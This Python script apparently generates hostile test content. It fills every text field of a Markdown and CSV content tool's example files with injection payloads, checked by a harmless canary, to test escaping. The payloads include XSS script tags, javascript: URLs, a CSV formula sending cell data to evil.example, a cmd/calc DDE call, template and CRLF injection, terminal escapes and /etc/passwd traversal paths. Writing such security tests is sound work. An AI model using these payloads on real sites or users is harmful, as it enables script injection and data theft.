"""Writes hostile contents: generate.py FOLDER

Each is the example content with one kind of attack in every place where text can enter: titles,
headings, link texts, destinations, code info strings, cells, footnotes, images, values of front matter,
people, settings, exports, requests and names of files.
"""

import json
import re
import shutil
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]

# CANARY is set by whatever runs; nothing may.
RUN = "window.canary=1"
ATTACKS = {
    "tags": f'"><script>{RUN}</script><img src=x onerror={RUN}>',
    "attributes": f"' onmouseover='{RUN}' onfocus={RUN} autofocus style='x:expression({RUN})",
    "ends": f"</script></title></style></textarea></svg>]]>--><script>{RUN}</script>",
    "svg": f'"><svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg><foreignObject>',
    "accents": f'"\u0301><script\u0301>{RUN}</script>\u2028\u2029\u202e"\u200d>',
    "entities": f"&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt; &#x22;&#62;&colon;",
    "templates": "{{constructor}} {{{organization}}} {{>layout}} ${7*7} <%= 7*7 %> {{=<% %>=}}",
    "formulas": '=HYPERLINK("https://evil.example/?"&A1,"x")+cmd|\'/c calc\'!A1',
    "lines": "x\r\nATTENDEE:mailto:evil@example.com\n::error file=a::b\n::stop-commands::t\n]]></failure>",
    "controls": "x\x1b[2J\x1b]8;;https://evil.example\x07y\x00\x08\x7f\u009b31m",
}
ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java&#10;script:{RUN}", f"&#x6A;avascript:{RUN}",
    f"javascript&colon;{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "//evil.example/x", "\\\\\\\\evil.example\\\\x", "/\\\\evil.example", "file:///etc/passwd", "../../../etc/passwd",
    "ftp://evil.example", "blob:x", "http:evil.example", f"https://evil.example/?\"onclick=\"{RUN}",
]
TEXT_KEYS = (
    "title|owner|author|reviewed_by|scenario|environment|facilitator|reason|root_cause|impact|outcome|"
    "compensating_control|management_response|category|vendor|revenue_impact|duration|source|query|run_by|"
    "incident_commander|approved_by|by|audience|channel|captured_by|basis|gap|late_reason|kind|link"
)


def inline(attack):
    """The attack as text of a paragraph or a cell: on one line, and no new column."""
    return " ".join(attack.replace("\0", "").splitlines()).replace("|", "\\|")


def front_matter(text, attack):
    def value(match):
        lead, written = match[1], match[2].strip()
        if written[:1] in "[{|>&*!":
            return match[0]
        plain = written.strip("\"'")
        return f"{lead}{json.dumps(plain + ' ' + attack)}"

    text = re.sub(rf"(?m)^(\s*(?:- )?(?:{TEXT_KEYS}): )(.+)$", value, text)
    # Values of mappings on one line.
    return re.sub(
        rf"((?:[{{,] ?)(?:{TEXT_KEYS}|name): )(\"[^\"]*\"|[^,}}\"]+)(?=[,}}])",
        lambda match: match[1] + json.dumps(match[2].strip('"') + " " + attack), text)


def body(text, attack, is_whole):
    flat = inline(attack)
    lines = []
    for line in text.split("\n"):
        if re.match(r"#{2,6} ", line) and len(lines) % 3 == 0 or line.startswith("# "):
            line += " " + flat
        elif line.startswith("|") and not re.match(r"^[|:\- ]+$", line):
            cells = line.strip().strip("|").split("|")
            line = "|" + "|".join(
                f"{cell.rstrip()} {flat} " if len(cell.split()) > 2 and "](" not in cell else cell for cell in cells) + "|"
        elif line.startswith("- ") and len(lines) % 2:
            line += " " + flat
        lines.append(line)
    if not is_whole:
        return "\n".join(lines)
    links = "\n".join(
        f"[{flat}]({address}) ![{flat}]({address}) <{address}> [r{number}] [{number}](<{address}> \"{flat}\")"
        for number, address in enumerate(ADDRESSES))
    definitions = "\n".join(f"[r{number}]: <{address}> '{flat}'" for number, address in enumerate(ADDRESSES))
    fences = f"```{flat}\n{attack}\n```\n\n~~~js\" onload={RUN}\n{attack}\n~~~\n"
    return "\n".join(lines) + f"""

## {flat}

{flat} *{flat}* **{flat}** ~~{flat}~~ `{flat}` [^{flat}] [^n]

[{flat}](#{flat}) [{flat}](nowhere-{flat}.md "{flat}") ![{flat}](x.png "{flat}") www.example.com/{flat}
https://example.com/{flat} mailto:a@example.com?{flat}

{links}

{definitions}

[^n]: {flat}

| {flat} | b |
|---|---|
| {flat} | [x](javascript:{RUN}) |

> {flat}

- [ ] {flat} (@{flat}, due 2026-09-01)

{fences}
{attack}

<script>{RUN}</script>
<img src=x onerror={RUN}> <a href="javascript:{RUN}">x</a> <iframe srcdoc="<script>{RUN}</script>"></iframe>

<style>@import "https://evil.example";</style><base href="https://evil.example/"><meta http-equiv=refresh content=0>

<timeline of {flat}>
"""


def cells(text, attack):
    lines = text.split("\n")
    quoted = '"' + attack.replace('"', '""') + '"'
    return "\n".join(
        line if number == 0 or not line else re.sub(r",([^,\"]*)$", lambda match: "," + quoted, line, count=1)
        for number, line in enumerate(lines))


def write(folder, attack):
    # Two systems with every type of document: the whole example would make pages of megabytes.
    shutil.copytree(ROOT / "content", folder, ignore=shutil.ignore_patterns("mobile", "platform", "billing"))
    seen = set()
    for path in sorted(folder.rglob("*")):
        if path.suffix == ".md":
            text = path.read_text()
            if text.startswith("---\n"):
                head, _, rest = text[4:].partition("\n---\n")
                # The long block of attacks once for each folder of each system.
                is_whole = path.parent not in seen
                seen.add(path.parent)
                text = "---\n" + front_matter(head, attack) + "\nx-own: " + json.dumps(attack) + "\n---\n" + body(rest, attack, is_whole)
            path.write_text(text, newline="")
        elif path.suffix == ".csv":
            path.write_text(cells(path.read_text(), attack), newline="")
    settings = folder / "tickmark.yml"
    text = front_matter(settings.read_text(), attack)
    text = re.sub(r"(?m)^organization: .*$", lambda _: "organization: " + json.dumps("Example " + attack), text)
    text = re.sub(r"(?m)^classification: .*$", lambda _: "classification: " + json.dumps(attack), text)
    text += f"""
rules:
  blameless-language: {{level: off, reason: {json.dumps(attack)}}}
  causes-named: {{level: warning, reason: {json.dumps(attack)}}}
sample: {{size: 3, engagement: {json.dumps(inline(attack).replace("|", "/"))}, set_by: {json.dumps(attack)}}}
"""
    settings.write_text(text, newline="")
    # Names of files: what a name can hold.
    name = "".join(c for c in inline(attack) if c.isprintable() and c not in "/\\")[:70]
    for path in ["savings/incidents", "savings/evidence"]:
        (folder / path).mkdir(parents=True, exist_ok=True)
    source = next((ROOT / "content/learning/incidents").glob("*.md")).read_text()
    source = re.sub(r"(?m)^id: .*$", lambda _: "id: " + json.dumps("INC-20260301-09 " + inline(attack)), source)
    (folder / f"savings/incidents/{name}.md").write_text(source, newline="")
    (folder / f"savings/evidence/{name}.log").write_text(attack, newline="")


def main(target):
    for name, attack in ATTACKS.items():
        write(target / name, attack)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
